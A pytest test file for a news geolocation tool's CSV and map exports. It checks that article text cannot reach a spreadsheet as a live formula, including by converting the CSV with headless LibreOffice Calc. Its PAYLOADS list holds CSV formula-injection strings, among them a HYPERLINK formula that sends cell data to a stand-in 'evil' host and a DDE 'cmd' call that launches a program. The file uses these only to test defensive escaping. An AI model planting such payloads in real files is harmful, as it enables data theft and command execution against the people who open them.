"""CSV out of ``mentions`` and ``export``: hostile article text reaches no spreadsheet as a formula.

The LibreOffice test opens the CSV the way a careless desk would (formulas evaluated, spaces
trimmed) and converts it to xlsx: a formula would be stored there as an ``<f>`` element.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pandas as pd
import pytest

from geo.maps.exports import FORMULA_TRIGGERS, inert_cell, mentions_csv

REPO = Path(__file__).resolve().parents[2]
# payload, written as title, source and the text's start -> the title cell a spreadsheet gets
PAYLOADS = [
    ('=HYPERLINK("http://evil/"&A1,"x")', '\'=HYPERLINK("http://evil/"&A1,"x")'),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("=cmd|'/c calc'!A1", "'=cmd|'/c calc'!A1"),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("\t=1", "'=1"),  # titles are stored stripped
    ("\r=1", "'=1"),
    ("@x", "'@x"),
    ("Crossing reopens", "Crossing reopens"),
    ("Report\r=1+1", "Report\r=1+1"),  # quoted whole: no row starts at "=1+1"
]
TEXT_COLUMNS = ("article_id", "location_id", "surface", "kind", "sentence", "speaker")
TEXT_COLUMNS += ("title", "source", "url")
# Calc's CSV import at its most trusting: UTF-8, quoted fields not forced to text, spaces
# trimmed, formulas evaluated (tokens 1-4, 7, 11, 13 of the CSV filter options).
CALC_CSV_IMPORT = "CSV:44,34,76,1,,0,false,true,false,false,true,-1,true"
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def geo(*args: str, db: Path) -> subprocess.CompletedProcess[str]:
    """Run ``python -m geo``; stdout decoded as written (no newline translation: CSV is CRLF)."""
    env = {**os.environ, "GEO_DB_URL": f"sqlite:///{db}"}
    done = subprocess.run(
        [sys.executable, "-m", "geo", *args], cwd=REPO, env=env, capture_output=True,
        timeout=120, check=False,
    )  # fmt: skip
    out, err = done.stdout.decode("utf-8"), done.stderr.decode("utf-8")
    return subprocess.CompletedProcess(done.args, done.returncode, out, err)


def _day(i: int) -> str:
    return f"Egypt kept the Rafah crossing shut on day {i}."


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    lines = [
        json.dumps({"title": payload, "source": payload, "text": f"{payload} {_day(i)}"})
        for i, (payload, _) in enumerate(PAYLOADS)
    ]
    (folder / "hostile.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    path = folder / "store.db"
    done = geo("ingest", str(folder / "hostile.jsonl"), "--workers", "1", db=path)
    assert done.returncode == 0, done.stderr
    return path


@pytest.fixture(scope="module")
def stored(db: Path) -> list[dict[str, object]]:
    """The mentions as stored, from the JSON output: the values the CSV must carry."""
    done = geo("mentions", db=db)
    assert done.returncode == 0, done.stderr
    mentions: list[dict[str, object]] = json.loads(done.stdout)["mentions"]
    assert len(mentions) == len(PAYLOADS)
    return mentions


@pytest.fixture(scope="module")
def mentions_csv_out(db: Path) -> str:
    done = geo("mentions", "--format", "csv", db=db)
    assert done.returncode == 0, done.stderr
    return done.stdout


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _row_of_day(rows: list[dict[str, str]], i: int) -> dict[str, str]:
    [row] = [row for row in rows if row["sentence"].endswith(_day(i))]
    return row


@pytest.mark.parametrize(("i", "cell"), list(enumerate(c for _, c in PAYLOADS)), ids=repr)
def test_mentions_csv_makes_each_payload_inert(mentions_csv_out: str, i: int, cell: str) -> None:
    row = _row_of_day(_rows(mentions_csv_out), i)
    assert row["title"] == cell and row["source"] == cell
    assert not row["sentence"].lstrip().startswith(FORMULA_TRIGGERS)


def test_mentions_csv_is_the_stored_mentions_made_inert(
    mentions_csv_out: str, stored: list[dict[str, object]]
) -> None:
    rows = _rows(mentions_csv_out)
    assert len(rows) == len(stored)
    for row, mention in zip(rows, stored, strict=True):
        for column in TEXT_COLUMNS:
            assert row[column] == inert_cell(str(mention[column] or "")), column
        assert (int(row["start"]), int(row["end"])) == (mention["start"], mention["end"])
        assert float(row["confidence"]) == mention["confidence"]


def test_export_csv_is_the_mentions_csv(db: Path, mentions_csv_out: str, tmp_path: Path) -> None:
    done = geo("export", "--format", "csv", db=db)
    assert done.returncode == 0, done.stderr
    assert done.stdout == mentions_csv_out
    written = geo("export", "--format", "csv", "-o", str(tmp_path / "m.csv"), db=db)
    assert written.returncode == 0, written.stderr
    assert (tmp_path / "m.csv").read_bytes().decode("utf-8") == mentions_csv_out


# --- LibreOffice Calc opens the CSV --------------------------------------------------------


def _to_xlsx(paths: list[Path], profile: Path) -> list[Path]:
    """Convert CSV files to xlsx with headless Calc, in a private profile."""
    soffice = shutil.which("soffice")
    assert soffice
    outdir = paths[0].parent / "xlsx"
    command = [
        soffice,
        f"-env:UserInstallation={profile.as_uri()}",
        "--headless",
        f"--infilter={CALC_CSV_IMPORT}",
        "--convert-to",
        "xlsx",
        "--outdir",
        str(outdir),
        *map(str, paths),
    ]
    done = subprocess.run(command, capture_output=True, text=True, timeout=180, check=False)
    assert done.returncode == 0, done.stderr
    return [outdir / f"{path.stem}.xlsx" for path in paths]


def _cells(xlsx: Path) -> tuple[dict[str, str], list[str]]:
    """The text of each cell by reference (A1), and the formulas stored in the sheet."""
    with zipfile.ZipFile(xlsx) as book:
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
        shared = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
    strings = ["".join(t.text or "" for t in si.iter(f"{SHEET}t")) for si in shared]
    cells = {}
    for cell in sheet.iter(f"{SHEET}c"):
        value = cell.findtext(f"{SHEET}v") or ""
        cells[cell.attrib["r"]] = strings[int(value)] if cell.get("t") == "s" else value
    return cells, [f.text or "" for f in sheet.iter(f"{SHEET}f")]


def _column(cells: dict[str, str], header: str) -> dict[int, str]:
    """The cells under ``header`` (in row 1) by row number."""
    [letter] = [
        ref[:-1] for ref, text in cells.items() if re.fullmatch(r"[A-Z]+1", ref) and text == header
    ]
    below = re.compile(rf"{letter}(\d+)")
    return {
        int(m[1]): text
        for ref, text in cells.items()
        if (m := below.fullmatch(ref)) and m[1] != "1"
    }


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice (soffice) is not installed")
def test_libreoffice_evaluates_no_formula(
    mentions_csv_out: str, stored: list[dict[str, object]], tmp_path: Path
) -> None:
    hostile = pd.DataFrame({"title": [*(p for p, _ in PAYLOADS), "  =1+1", "a\r=1+1", ""]})
    files = {
        "cli": mentions_csv_out,
        "function": mentions_csv(hostile),
        # controls: the same cells as written before they were made inert
        "cli-raw": pd.DataFrame(stored).to_csv(index=False),
        "function-raw": hostile.to_csv(index=False),
    }
    for name, text in files.items():
        (tmp_path / f"{name}.csv").write_bytes(text.encode("utf-8"))
    books = _to_xlsx([tmp_path / f"{name}.csv" for name in files], tmp_path / "profile")
    (cli, cli_formulas), (function, function_formulas), (_, cli_raw), (_, function_raw) = map(
        _cells, books
    )
    assert cli_raw and function_raw  # Calc did evaluate the raw cells: the check can see it
    assert cli_formulas == [] and function_formulas == []
    # Calc keeps a quoted CR as a line break inside the cell: one cell, no new row.
    csv_titles = {
        n + 2: row["title"].replace("\r", "\n") for n, row in enumerate(_rows(mentions_csv_out))
    }
    assert _column(cli, "title") == csv_titles
    assert '\'=HYPERLINK("http://evil/"&A1,"x")' in csv_titles.values()
    calc_titles = list(_column(function, "title").values())
    inert = [inert_cell(title).replace("\r", "\n") for title in hostile["title"] if title]
    assert calc_titles == inert


def test_export_gpkg_writes_places_and_the_stored_mentions(
    db: Path, stored: list[dict[str, object]], tmp_path: Path
) -> None:
    import pyogrio

    out = tmp_path / "map.gpkg"
    done = geo("export", "--format", "gpkg", "-o", str(out), db=db)
    assert done.returncode == 0, done.stderr
    assert [name for name, _ in pyogrio.list_layers(out)] == ["places", "mentions"]
    places = pyogrio.read_dataframe(out, layer="places").set_index("location_id")
    assert places.loc["rafah-crossing", "count"] == len(PAYLOADS)
    quotes = pyogrio.read_dataframe(out, layer="mentions")
    assert sorted(quotes["title"]) == sorted(str(m["title"]) for m in stored)  # as stored


@pytest.mark.parametrize("fmt", ["gpkg", "png"])
def test_a_binary_export_needs_a_file(db: Path, fmt: str) -> None:
    done = geo("export", "--format", fmt, db=db)
    assert done.returncode == 1
    expected = f"error: --format {fmt} writes a binary file: name it with -o FILE.{fmt}"
    assert done.stderr.strip() == expected
    assert done.stdout == ""


def test_export_png_writes_the_map_for_print(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "map.png"
    done = geo("export", "--format", "png", "-o", str(out), db=db)
    assert done.returncode == 0, done.stderr
    assert out.read_bytes().startswith(b"\x89PNG\r\n\x1a\n")
